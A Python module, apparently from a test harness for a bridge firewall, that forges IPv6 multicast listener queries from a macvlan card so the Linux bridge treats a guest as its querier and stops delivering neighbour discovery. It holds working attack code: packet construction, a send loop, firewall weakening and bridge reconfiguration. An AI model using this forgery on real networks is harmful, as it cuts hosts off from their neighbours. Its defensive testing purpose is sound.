"""Somebody with a macvlan or macvtap on the bridge itself says that it is the multicast router of the bridge.

A guest has such a card by `type='direct'`, `<source dev='br0'/>`. What it sends leaves for the bridge as the host's own packets do, and the bridge
learns from it all the same. A query with two hops is one to the bridge and none to the guests (RFC 3810 §5.1.14), so nobody answers it, and the bridge
sends neighbour discovery to nobody. Gained: as queries_sent. In the way: what leaves for the bridge without the mark of the host's own messages is
checked like a guest's (chains `others_ip6`, `others_errors`).
"""

import struct
import time

import rules
import space
import wire
from attack import Outcome
from attacks import queries_sent
from attacks.queries_sent import ALERT, AUTHENTICATION, EVERYONE, QUERY
from attacks.redirects_by_macvlan import LINK, plug, unplug
from field import Field
from host import Host

# How long the bridge believes in a querier after its last query, in seconds: by default more than four minutes.
BELIEVED = 3


def kinds() -> list[bytes]:
    """A query, behind options alone and behind an authentication header."""
    source = wire.ip("fe80::1")
    body = wire.icmpv6(source, EVERYONE[1], struct.pack("!BBHHH16sBBH", QUERY, 0, 0, 1, 0, bytes(16), 0, 125, 0))
    authentication = struct.pack("!BBHIII", wire.ICMPV6, 2, 0, 1, 1, 1)
    return [wire.ethernet(EVERYONE[0], wire.mac(LINK), wire.IPV6,
                          wire.ipv6(source, EVERYONE[1], bytes([following, 0]) + ALERT + header + body, wire.HOP_BY_HOP, 2))
            for following, header in ((wire.ICMPV6, b""), (AUTHENTICATION, authentication))]


class Attack(queries_sent.Attack):
    """The forger, with a second card."""

    hosts = ("address",)
    proofs = (("address", 6),)

    def prepare(self, host: Host) -> None:
        """Plugs it in, where nobody has reported to the bridge for long."""
        plug(host)
        space.ip(f"link set br0 type bridge mcast_querier_interval {BELIEVED * 100}")
        space.ip("link set br0 type bridge mcast_snooping 0\nlink set br0 type bridge mcast_snooping 1")

    def attack(self, field: Field) -> None:
        """Asks by the second card."""
        card, sent = wire.Wire("mv0"), 0
        field.ready()
        while field.goes_on():
            card.send(*kinds())
            sent += 1
            time.sleep(0.05)
        field.report["sent"] = sent

    def during(self, host: Host, outcome: Outcome) -> None:
        """Has the host look for victim-1."""
        time.sleep(0.5)
        space.ip("neighbour flush dev br0")
        outcome.host_report["is_found"] = True
        try:
            space.call("ping", "-6", "-c", "2", "-i", "0.3", "-W", "1", host.victims[0].ip6)
        except space.Failure:
            outcome.host_report["is_found"] = False

    def gained(self, outcome: Outcome) -> str | None:
        """A victim that the host does not find."""
        if outcome.forger["sent"] < 5:
            raise space.Failure(f"only {outcome.forger['sent']} queries were sent: the attack does not work")
        if not outcome.host_report["is_found"]:
            return f"the host does not find victim-1; victims lost {outcome.lost} requests"
        return f"victims lost {outcome.lost} requests" if outcome.lost else None

    def weaken(self, host: Host) -> None:
        """Has its packets pass."""
        rules.trust_what_leaves()

    def restore(self, host: Host) -> None:
        """Unplugs it, and waits until the bridge believes in no querier any more: until then it sends neighbour discovery to nobody."""
        unplug(host)
        time.sleep(BELIEVED + 1)
        space.ip("link set br0 type bridge mcast_querier_interval 25500")
        super().restore(host)
